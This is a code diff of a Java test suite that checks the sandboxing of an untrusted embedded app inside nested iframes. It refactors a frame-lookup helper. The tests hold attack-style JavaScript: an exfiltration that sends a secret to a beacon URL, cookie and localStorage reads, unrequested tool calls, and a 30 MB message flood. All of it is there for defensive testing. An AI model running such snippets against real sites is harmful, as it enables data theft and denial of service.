@@ -86,12 +86,12 @@ class HostileAppTest {
         visitor.choosesTool("evil-show").runs();
         assertThat(visitor.card("evil-show", "success")).isVisible();
         visitor.button("Agree and show it").click();
-        Visitor.until(app(visitor), "window.begun");
+        Visitor.until(AppServer.shown(visitor), "window.begun");
     }
 
     @Test
     void nothingLeavesAnAppAndNothingIsSeenByIt(Visitor visitor, Bench bench) {
-        var app = app(visitor);
+        var app = AppServer.shown(visitor);
         var soft = new SoftAssertions();
         for (var look : LOOKS_AROUND) {
             soft.assertThat(app.evaluate(
@@ -129,7 +129,7 @@ class HostileAppTest {
     /** The frame around an app is on another port of the console's host, to which browsers send the cookie. */
     @Test
     void neitherTheAppNorTheFrameAroundItHasWhatLetsThePageIn(Visitor visitor, Bench bench) {
-        var around = app(visitor).parentFrame();
+        var around = AppServer.shown(visitor).parentFrame();
         assertThat(around.evaluate("JSON.stringify([document.cookie, Object.keys(localStorage)])"))
                 .isEqualTo("[\"\",[]]");
         assertThat(around.evaluate("""
@@ -151,7 +151,7 @@ class HostileAppTest {
 
     @Test
     void anAppCannotGoElsewhereWithWhatItKnows(Visitor visitor) {
-        var app = app(visitor);
+        var app = AppServer.shown(visitor);
         app.evaluate("beacon => { location.href = beacon + '/self?secret=what-the-app-was-told'; }", beacon.origin());
         assertUsable(visitor);
         assertThat(beacon.requests()).as("what somebody else heard").isEmpty();
@@ -159,7 +159,7 @@ class HostileAppTest {
 
     @Test
     void nothingIsCalledUnasked(Visitor visitor) {
-        var app = app(visitor);
+        var app = AppServer.shown(visitor);
         app.evaluate("""
             () => { window.ends = [];
               for (const name of ['evil-danger', 'evil-model', 'other-danger', 'no-such-tool', '', '__proto__', 7, null])
@@ -200,7 +200,7 @@ class HostileAppTest {
 
     @Test
     void hugeAndManyMessagesDoNotStopThePage(Visitor visitor) {
-        var app = app(visitor);
+        var app = AppServer.shown(visitor);
         app.evaluate("""
             () => { const huge = 'x'.repeat(30 << 20);
               parent.postMessage({jsonrpc: '2.0', method: 'notifications/message', params: {data: huge}}, '*');
@@ -234,17 +234,6 @@ class HostileAppTest {
         page.getByLabel("Filter tools").fill("");
         visitor.goTo("Traffic").goTo("Tools");
         assertThat(page.url()).contains("127.0.0.1");
-    }
-
-    private static Frame app(Visitor visitor) {
-        var page = visitor.page();
-        assertThat(page.frameLocator("iframe").frameLocator("iframe").locator("h1"))
-                .hasText("an app");
-        return page.frames().stream()
-                .filter(frame ->
-                        frame.parentFrame() != null && frame.parentFrame().parentFrame() != null)
-                .findFirst()
-                .orElseThrow();
     }
 
     private static String json(String name, String url) {
